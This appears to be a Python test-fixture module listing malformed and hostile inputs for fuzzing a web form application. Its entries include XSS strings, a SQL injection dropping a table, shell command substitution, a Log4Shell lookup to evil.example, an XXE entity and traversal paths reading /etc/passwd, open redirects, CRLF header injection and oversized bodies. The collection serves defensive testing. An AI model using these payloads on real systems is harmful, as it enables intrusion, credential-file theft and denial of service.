"""What is sent where it does not belong; each input is bytes, or made from the sound value."""

import json

LONG = 10_000
MILLION = 1_000_000


def utf8(text):
    """Return a text as bytes."""
    return text.encode("utf-8", "surrogatepass")


TEXTS = {
    "nothing": b"",
    "spaces": b" \t ",
    "NUL": b"a\0b",
    "a lone surrogate": utf8("\ud800"),
    "a pair of surrogates": utf8("\ud83d\udca5"),
    "no UTF-8": b"\xff\xfe\x80abc",
    "overlong UTF-8": b"\xc0\xae\xc0\xae\xc0\xaf",
    "controls": bytes(range(1, 32)) + b"\x7f\xc2\x85",
    "CRLF": b"a\r\nSet-Cookie: hostile=1\r\n\r\n<b>",
    "bidi": utf8("\u202eabc\u2066def\u2069\u200f"),
    "zero width": utf8("a\u200b\u200c\u200d\u2060\ufeffb"),
    "noncharacters": utf8("\ufffe\uffff\U0010ffff"),
    "combining": utf8("a" + "\u0301" * 3000),
    "emoji": utf8("💥" * 300),
    "script": b'"><script>alert(1)</script>',
    "an attribute": b'\' onfocus=alert(1) " onblur=alert(1) x="',
    "a picture that fails": b"<img src=x onerror=alert(1)>",
    "an entity": b"&lt;script&gt;alert(1)&lt;/script&gt;",
    "a template": b"{{1234567*7}}${1234567*7}{%print 1234567*7%}",
    "a format": b"%s%(x)s%d{0}{0.__class__}{x!r}",
    "SQL": b"' OR '1'='1'; DROP TABLE attempt; --",
    "a LIKE": b"%_%",
    "a shell": b"$(id);`id`|id",
    "a log": b"${jndi:ldap://evil.example/a}",
    "long": b"x" * LONG,
}
NUMBERS = {
    "zero": b"0",
    "minus one": b"-1",
    "plus one": b"+1",
    "a fraction": b"1.5",
    "an exponent": b"1e9",
    "hexadecimal": b"0x10",
    "not a number": b"NaN",
    "beyond 64 bits": str(2**63).encode(),
    "thirty digits": b"9" * 30,
    "five thousand digits": b"9" * 5000,
    "Arabic digits": utf8("٣٤٥"),
    "mathematical digits": utf8("𝟛𝟜"),
    "a superscript": utf8("²"),
}
TYPES = {
    "null": b"null",
    "true": b"true",
    "an object": b'{"a": 1}',
    "a list": b'["a"]',
    "an entity of XML": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
}
DATES = {
    "31 February": b"31/02/1990",
    "the year 0": b"0000",
    "the year 99999": b"99999",
    "the year -1": b"-1",
    "a zero day": b"00",
    "the 32nd": b"32",
}
PATHS = {
    "up": b"../../etc/passwd",
    "up, escaped": b"..%2f..%2fetc%2fpasswd",
    "up, escaped twice": b"%252e%252e%252f",
    "up, with backslashes": b"..\\..\\etc",
    "NUL, escaped": b"%00",
    "a surrogate, escaped": b"%ED%A0%80",
    "half an escape": b"%",
    "another site": b"//evil.example/",
    "another site, escaped": b"%2f%2fevil.example",
    "another site, with backslash": b"/\\evil.example",
    "another scheme": b"javascript:alert(1)",
    "another address": b"https://evil.example/",
    "an own page, then a break": b"/nl/\r\nX: y",
    "a question mark": b"%3Fa=b",
    "a fragment": b"%23a",
    "a semicolon": b";a=b",
}
"""Paths as an address writes them: `%00` is NUL once the server has read it."""

SPELLINGS = {
    "capitals": lambda sound: sound.upper() if sound.upper() != sound else sound + b"A",
    "a dot behind": lambda sound: sound + b".",
    "a slash behind": lambda sound: sound + b"/",
    "a slash before": lambda sound: b"/" + sound,
    "a space behind": lambda sound: sound + b" ",
    "a zero before": lambda sound: b"0" + sound,
    "twice": lambda sound: sound + sound,
    "a dot as folder": lambda sound: b"./" + sound,
}
"""The sound value, spelled otherwise."""


def inside(value):
    """Put an input into the middle of the sound value."""
    return lambda sound: sound[:1] + value + sound[1:]


_TELLING = (
    *("NUL", "a lone surrogate", "no UTF-8", "controls", "CRLF", "bidi", "zero width", "combining", "emoji"),
    *("script", "an attribute", "a template", "a format", "SQL", "long", "spaces"),
)
WITHIN = {f"{name}, within": inside(TEXTS[name]) for name in _TELLING} | {
    "up, escaped, within": inside(PATHS["up, escaped"])
}
"""Each text in the middle of a value that is otherwise right."""

HEADERS = {
    "controls": b"a\x01\x1f\x7fb",
    "no UTF-8": b"\xff\xfe\xed\xa0\x80",
    "script": TEXTS["script"],
    "a template": TEXTS["a template"],
    "65 kB": b"a," * 32_500,
    "minus one": b"-1",
    "beyond 64 bits": str(2**63).encode(),
    "five thousand digits": b"9" * 5000,
    "separators": b';;,,==""\\"\'; q=, ;q=9',
    "an odd address": b"http://[::1",
}

ANSWERS = {
    "JSON": (b"application/json", json.dumps({"code": 5, "name": ["a"], "answer": {"a": 1}}).encode()),
    "JSON that is none": (b"application/json", b'{"a":'),
    "deep JSON": (b"application/json", b"[" * 20_000),
    "plain text": (b"text/plain", b"answer=a"),
    "XML": (b"application/xml", TYPES["an entity of XML"]),
    "no type": (b"", b"answer=a"),
    "an odd type": (b"\xff;=;", b"answer=a"),
    "another charset": (b"application/x-www-form-urlencoded; charset=utf-7", b"answer=+AGE-"),
    "an unknown charset": (b"application/x-www-form-urlencoded; charset=%00", b"answer=a"),
    "no boundary": (b"multipart/form-data", b"--x\r\n\r\na"),
    "another boundary": (b"multipart/form-data; boundary=y", b"--x\r\n\r\na\r\n--x--"),
    "a long boundary": (b"multipart/form-data; boundary=" + b"y" * 5000, b"--x--"),
    "half a multipart": (
        b"multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="answer"\r\n\r\na',
    ),
    "a multipart without names": (b"multipart/form-data; boundary=x", b"--x\r\n\r\na\r\n--x--\r\n"),
    "a thousand parts": (
        b"multipart/form-data; boundary=x",
        b'--x\r\nContent-Disposition: form-data; name="a"\r\n\r\na\r\n' * 1000 + b"--x--\r\n",
    ),
    "bytes": (b"application/x-www-form-urlencoded", bytes(range(256))),
    "percent signs": (b"application/x-www-form-urlencoded", b"%&%=%zz&=&&&=%ED%A0%80"),
    "ten thousand fields": (b"application/x-www-form-urlencoded", b"a=1&" * LONG),
    "a million characters": (b"application/x-www-form-urlencoded", b"answer=" + b"x" * MILLION),
}
"""Whole bodies in place of a form: their type, and what they hold."""
